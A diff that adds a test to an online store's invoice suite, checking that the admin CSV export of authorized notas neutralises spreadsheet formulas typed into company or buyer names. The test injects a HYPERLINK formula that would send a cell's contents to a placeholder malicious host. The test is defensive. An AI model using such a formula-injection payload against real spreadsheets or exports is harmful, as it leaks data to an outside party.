@@ -162,6 +162,55 @@ describe('the nota of a paid order (Focus NFe)', () => {
     expect(csv.body).toContain(id)
   })
 
+  it("keeps a formula typed as the company's or the buyer's name as text in the CSV", async () => {
+    const formula = '=HYPERLINK("https://mal.example/"&A1,"Abrir nota")'
+    const byCompany = await order({ taxId: CNPJ, companyName: formula })
+    const placed = await call(
+      store,
+      'POST',
+      '/api/checkout',
+      {
+        items: [{ productId: kit.id, quantity: 1 }],
+        customerData: guestForm({
+          firstName: '=HYPERLINK("https://mal.example/"&A1',
+          lastName: '"Abrir")',
+        }),
+        invoice: { taxId: CPF },
+      },
+      { session: newCartSession() },
+    )
+    expect(placed.statusCode, placed.body).toBe(201)
+    const byPerson = placed.json<CheckoutAnswer>().order.id
+    for (const id of [byCompany, byPerson]) {
+      await pay(id)
+      await runDue()
+      fake.authorize(id)
+      const hook = await call(store, 'POST', '/api/webhooks/nfse/focusnfe', {
+        ref: id,
+        status: 'autorizado',
+      })
+      expect(hook.statusCode).toBe(200)
+    }
+    const listed = (await adminCall('GET', '/api/admin/invoices')).json<AdminInvoice[]>()
+    const authorizedAt = listed.find((i) => i.orderId === byCompany)!.authorizedAt!
+    const month = new Intl.DateTimeFormat('en-CA', { timeZone: 'America/Sao_Paulo' })
+      .format(new Date(authorizedAt))
+      .slice(0, 7)
+    const csv = await adminCall('GET', `/api/admin/invoices.csv?month=${month}`)
+    expect(csv.statusCode).toBe(200)
+    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8')
+    const lines = csv.body
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\r\n')
+    const company = lines.find((l) => l.includes(byCompany))!
+    const person = lines.find((l) => l.includes(byPerson))!
+    expect(company).toContain(`;"'=HYPERLINK(""https://mal.example/""&A1,""Abrir nota"")";`)
+    expect(person).toContain(`;"'=HYPERLINK(""https://mal.example/""&A1`)
+    // No cell of the file starts a formula (a quoted one included).
+    expect(lines.join('\n')).not.toMatch(/(^|;)"?[=+@-]/m)
+  })
+
   it('makes exactly one nota when the payment is confirmed twice and the worker runs twice', async () => {
     const id = await order({ taxId: CPF })
     const paid = await Promise.all([pay(id), pay(id)])
